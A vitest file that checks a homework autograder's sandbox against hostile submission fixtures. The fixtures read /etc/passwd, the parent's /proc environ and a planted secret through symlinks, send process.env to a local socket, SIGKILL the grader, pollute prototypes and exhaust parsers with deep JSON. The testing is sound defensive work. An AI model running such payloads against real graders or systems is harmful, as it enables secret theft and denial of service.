/**
 * Issue 12's classes of attack, one fixture each, graded by the real CLI in one batch beside
 * `correct`. Whatever each hostile submission tries, the batch must: give `correct` its full
 * result (70, as alone), give every hostile submission a result of its own, change no file
 * outside the output folder, let no secret planted outside the tree or in the grader's
 * environment reach any output, accept no connection on the grader's loopback, and write
 * the batch's sheets. Finer tests of each wall are in the other files of this folder.
 */
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { cp, lstat, mkdir, mkdtemp, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SubmissionResult } from '../../src/core/vocabulary.ts';
import { ROOT } from '../helpers-cli.ts';
import { writeZip } from '../zip-writer.ts';

const exec = promisify(execFile);
const CORRECT = join(ROOT, 'solutions/correct');
const SECRET_FILE_TOKEN = `file-secret-${randomBytes(12).toString('hex')}`;
const SECRET_ENV_TOKEN = `env-secret-${randomBytes(12).toString('hex')}`;

/** Every file under `dir` (not following links) with the sha256 of its bytes, or its kind. */
async function snapshot(dir: string, skip: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const walk = async (d: string) => {
    for (const e of await readdir(d, { withFileTypes: true })) {
      const path = join(d, e.name);
      if (path === skip) continue;
      if (e.isDirectory()) await walk(path);
      else if (e.isFile()) out.set(relative(dir, path), createHash('sha256').update(await readFile(path)).digest('hex'));
      else out.set(relative(dir, path), (await lstat(path)).isSymbolicLink() ? 'link' : 'other');
    }
  };
  await walk(dir);
  return out;
}

async function allText(dir: string): Promise<string> {
  const parts: string[] = [];
  const walk = async (d: string) => {
    for (const e of await readdir(d, { withFileTypes: true })) {
      if (e.isDirectory()) await walk(join(d, e.name));
      else if (e.isFile()) parts.push((await readFile(join(d, e.name))).toString('latin1'));
    }
  };
  await walk(dir);
  return parts.join('\n');
}

describe('a batch of hostile submissions beside correct', () => {
  let root: string;
  let out: string;
  let run: { code: number; stdout: string; stderr: string };
  let before: Map<string, string>;
  let repoBefore: Map<string, string>;
  const results = new Map<string, SubmissionResult>();
  let server: Server;
  let connections = 0;
  const units: string[] = [];

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'hw2-attacks-'));
    const batch = join(root, 'batch');
    out = join(root, 'out');
    await mkdir(batch);
    const secret = join(root, 'secret.txt');
    await writeFile(secret, SECRET_FILE_TOKEN);
    await writeFile(join(root, 'victim.txt'), 'victim');
    const hw2 = JSON.parse(await readFile(join(CORRECT, 'hw2.json'), 'utf8'));
    const { task2: _t2, task3: _t3, task1, ...rest } = hw2.answers;
    // Part 1 and Task 1's printed values: quick to grade, no models
    const light = { ...hw2, answers: { ...rest, task1: { ...task1, samples: [] } } };
    const folder = async (name: string, files: Record<string, string | Buffer>) => {
      await mkdir(join(batch, name), { recursive: true });
      for (const [file, data] of Object.entries(files)) {
        await mkdir(join(batch, name, file, '..'), { recursive: true });
        await writeFile(join(batch, name, file), data);
      }
      units.push(name);
      return join(batch, name);
    };
    server = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;

    await cp(CORRECT, join(batch, 'correct'), { recursive: true });
    units.push('correct');

    // Links in a folder: to /, to the answer key, a neighbour's hw2.json, /dev/zero as a sample.
    const reader = `import { readFileSync } from 'node:fs';
      export function projectReversal(p) { return ['root/proc/' + process.ppid + '/environ', 'root/etc/passwd', 'root${secret}'].map((f) => { try { return readFileSync(f, 'utf8'); } catch (e) { return String(e); } }); }`;
    await symlink('/', join(await folder('link-to-root', { 'hw2.json': JSON.stringify(light), 'solution.mjs': reader }), 'root'));
    await symlink(join(ROOT, 'reference/rubric.json'), join(await folder('link-to-answer-key', { 'hw2.json': JSON.stringify(light) }), 'rubric.json'));
    const neighbour = await folder('hw2-json-is-a-link', {});
    await symlink(join(batch, 'correct', 'hw2.json'), join(neighbour, 'hw2.json'));
    const zero = await folder('sample-is-dev-zero', { 'hw2.json': JSON.stringify({ ...light, answers: { ...light.answers, task1: { ...task1, samples: [{ init: 'xavier', fanIn: 128, fanOut: 64, file: 'xavier_128_64.npy' }] } } }) });
    await symlink('/dev/zero', join(zero, 'xavier_128_64.npy'));
    execFileSync('mkfifo', [join(await folder('fifo', { 'hw2.json': JSON.stringify(light) }), 'pipe')]);

    // Bundling: a tsconfig that extends the secret file.
    await folder('tsconfig-extends-secret', {
      'hw2.json': JSON.stringify(light), 'tsconfig.json': JSON.stringify({ extends: secret }),
      'solution.ts': 'export function projectReversal(p: unknown) { return p; }\n',
    });

    // The child against the parent: signals, trace files, the network, the message pipe.
    await folder('kill-the-grader', {
      'hw2.json': JSON.stringify(light),
      'solution.mjs': `export function projectReversal(p) { for (const pid of [process.ppid, 1, 2, 3]) { try { process.kill(pid, 'SIGKILL'); } catch {} } try { process._kill?.(process.ppid, 9); } catch {} return p; }`,
    });
    await folder('trace-events', {
      'hw2.json': JSON.stringify(light),
      'solution.mjs': `export async function projectReversal(p) { const t = await import('node:' + 'trace_events'); t.createTracing({ categories: ['node.perf'] }).enable(); return p; }`,
    });
    await folder('network', {
      'hw2.json': JSON.stringify(light),
      'solution.mjs': `export async function projectReversal(p) {
        const net = await import('node:' + 'net');
        await new Promise((resolve) => { try { const s = net.connect(${port}, '127.0.0.1', () => { s.write(JSON.stringify(process.env)); resolve(); }); s.on('error', resolve); } catch { resolve(); } });
        try { await fetch('http://127.0.0.1:${port}/'); } catch {}
        return p; }`,
    });
    await folder('crafted-returns', {
      'hw2.json': JSON.stringify(light),
      'solution.mjs': `export function projectReversal() { return { W1: 10n, W2: [] }; }
        export function projectComplement() { let v = []; for (let i = 0; i < 100000; i++) v = [v]; return { W1: v, W2: new Map([[1, 2]]) }; }
        export function xavierInit() { const a = []; a[1e9] = 1; return a; }`,
    });

    // Parsing: prototype keys, a deep hw2.json, a deep notebook, a long .npy header, names XML forbids.
    await folder('prototype-keys', {
      'hw2.json': JSON.stringify(light).replace('{', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},').replace('"q4":{', '"q4":{"__proto__":{"isAdmin":true},'),
    });
    await folder('deep-json', { 'hw2.json': `{"contract":1,"group":{"ids":["123456782"]},"answers":{"q1":${'['.repeat(200_000)}${']'.repeat(200_000)}}}` });
    await folder('deep-notebook', {
      'hw2.json': JSON.stringify(light),
      'ee046211_hw2_123456782_234567891.ipynb': `{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"code","source":"","metadata":{},"execution_count":1,"outputs":[{"output_type":"display_data","data":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)},"metadata":{}}]}]}`,
    });
    const header = `{'descr': '<f4', 'fortran_order': False, 'shape': (${'1, '.repeat(300_000)}), }`;
    const npy = Buffer.concat([Buffer.from([0x93]), Buffer.from('NUMPY'), Buffer.from([2, 0]), Buffer.from(new Uint32Array([header.length + 1]).buffer), Buffer.from(`${header}\n`)]);
    await folder('npy-long-header', {
      'hw2.json': JSON.stringify({ ...light, answers: { ...light.answers, task1: { ...task1, samples: [{ init: 'xavier', fanIn: 128, fanOut: 64, file: 'xavier_128_64.npy' }] } } }),
      'xavier_128_64.npy': npy,
    });
    await folder('names-xml-forbids', { 'hw2.json': JSON.stringify({ ...light, group: { ids: ['123456782', '234567891'], names: ['A\u0001\uFFFF\uD800B', `<x>${'&'.repeat(50_000)}`] } }) });

    // Folders and empty files where files are expected; a zip whose entry is both a file and a folder.
    await folder('folders-where-files-are-expected', {
      'hw2.json': JSON.stringify({ ...hw2, answers: { ...hw2.answers, task1: { ...task1, samples: [{ init: 'xavier', fanIn: 128, fanOut: 64, file: 'xavier_128_64.npy' }] } } }),
      'xavier_128_64.npy/x': 'x', 'history/mlp.json/x': 'x', 'models/mlp/model.json/x': 'x',
    });
    await folder('hw2-json-is-a-folder', { 'hw2.json/x': 'x' });
    await folder('hw2-json-is-empty', { 'hw2.json': '' });
    await writeFile(join(batch, 'entry-is-file-and-folder.zip'), writeZip([{ name: 'hw2.json', data: Buffer.from(JSON.stringify(light)) }, { name: 'a', data: Buffer.from('x') }, { name: 'a/b', data: Buffer.from('y') }]));
    units.push('entry-is-file-and-folder');

    before = await snapshot(root, out);
    repoBefore = await snapshot(join(ROOT, 'reference'), '');
    try {
      const r = await exec(process.execPath, [join(ROOT, 'bin/hw2.mjs'), 'grade', batch, '--out', out, '--no-pdf', '--jobs', '2'],
        { cwd: root, env: { ...process.env, HW2_TEST_SECRET: SECRET_ENV_TOKEN }, maxBuffer: 256 << 20 });
      run = { code: 0, stdout: r.stdout, stderr: r.stderr };
    } catch (error) {
      const e = error as { code: number; stdout: string; stderr: string };
      run = { code: e.code, stdout: e.stdout, stderr: e.stderr };
    }
    for (const id of units) {
      const file = join(out, id, 'result.json');
      if (existsSync(file)) results.set(id, JSON.parse(await readFile(file, 'utf8')));
    }
  }, 300_000);

  afterAll(() => server?.close());

  it('finishes, exits 0 (every fault is a submission\'s), and writes every result and sheet', () => {
    expect(run.code, run.stderr).toBe(0);
    expect([...results.keys()].sort()).toEqual([...units].sort());
    for (const f of ['summary.html', 'grades.csv', 'scores.csv', 'junit.xml']) expect(existsSync(join(out, f)), f).toBe(true);
  });

  it('gives correct its full result, as when graded alone', () => {
    const correct = results.get('correct')!;
    expect(correct.score).toBe(70);
    expect(correct.checks.filter((c) => c.status === 'error')).toEqual([]);
  });

  it('refuses links, FIFOs and an entry that is both a file and a folder, naming the entry', () => {
    const problems = (id: string) => results.get(id)!.problems.join(' ');
    expect(problems('link-to-root')).toMatch(/root is a symbolic link/);
    expect(problems('link-to-answer-key')).toMatch(/rubric\.json is a symbolic link/);
    expect(problems('hw2-json-is-a-link')).toMatch(/hw2\.json is a symbolic link/);
    expect(problems('sample-is-dev-zero')).toMatch(/xavier_128_64\.npy is a symbolic link/);
    expect(problems('fifo')).toMatch(/pipe is a FIFO/);
    expect(problems('entry-is-file-and-folder')).toMatch(/a.* is both a file and a folder/);
    for (const id of ['link-to-root', 'link-to-answer-key', 'hw2-json-is-a-link', 'sample-is-dev-zero', 'fifo', 'entry-is-file-and-folder']) {
      expect(results.get(id)!.checks.filter((c) => c.kind === 'auto').every((c) => c.score === 0), id).toBe(true);
    }
  });

  it('keeps the child from the grader: signals, trace files, network, crafted values each cost only that call', () => {
    const message = (id: string, check: string) => results.get(id)!.checks.find((c) => c.id === check)!.message;
    expect(message('kill-the-grader', 'q5.reversal')).not.toMatch(/internal error/i);
    expect(message('trace-events', 'q5.reversal')).toMatch(/trace_events is not allowed|refused/);
    expect(connections).toBe(0);
    expect(message('crafted-returns', 'q5.reversal')).toMatch(/bigint/);
    expect(message('crafted-returns', 'q5.complement')).toMatch(/cannot be sent back|deep|Map/i);
    expect(JSON.stringify([...results.values()])).not.toMatch(/Internal error in check/);
  });

  it('reads bounded, prototype-free JSON and names what it refused', () => {
    expect(results.get('prototype-keys')!.problems.join(' ')).toMatch(/__proto__/);
    expect(results.get('deep-json')!.problems.join(' ')).toMatch(/nested more than \d+ levels/);
    expect(results.get('deep-notebook')!.checks.find((c) => c.id === 'rules.executed')!.message).toMatch(/nested more than \d+ levels/);
    expect(JSON.stringify(results.get('npy-long-header')).length).toBeLessThan(200_000);
    expect(results.get('hw2-json-is-a-folder')!.problems.join(' ')).toMatch(/hw2\.json is a folder; expected a file/);
    expect(results.get('hw2-json-is-empty')!.problems.join(' ')).toMatch(/hw2\.json is empty/);
    const folders = results.get('folders-where-files-are-expected')!;
    expect(JSON.stringify(folders.checks)).toMatch(/xavier_128_64\.npy \(.*\) is a folder; expected a file/);
    expect(JSON.stringify(folders.checks)).toMatch(/models\/mlp\/model\.json \(hw2\.json answers\.task2\.model\.path\) is a folder; expected a file/);
  });

  it('lets no secret out and no character XML forbids into junit.xml', async () => {
    const text = await allText(out);
    expect(text).not.toContain(SECRET_FILE_TOKEN);
    expect(text).not.toContain(SECRET_ENV_TOKEN);
    expect(text).not.toMatch(/root:x:0:0/);
    const junit = await readFile(join(out, 'junit.xml'), 'utf8');
    expect(junit).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
    // the sheets stay small: no 50,000-character name or 1 MB header copied into every row
    for (const f of ['summary.html', 'grades.csv', 'scores.csv', 'junit.xml']) expect((await lstat(join(out, f))).size, f).toBeLessThan(2_000_000);
  });

  it('changes no file outside the output folder, in the batch, beside it or in the answer key', async () => {
    const after = await snapshot(root, out);
    expect([...after].filter(([k, v]) => before.get(k) !== v)).toEqual([]);
    expect([...before.keys()].filter((k) => !after.has(k))).toEqual([]);
    expect(await snapshot(join(ROOT, 'reference'), '')).toEqual(repoBefore);
    expect(await readFile(join(root, 'victim.txt'), 'utf8')).toBe('victim');
  });
});
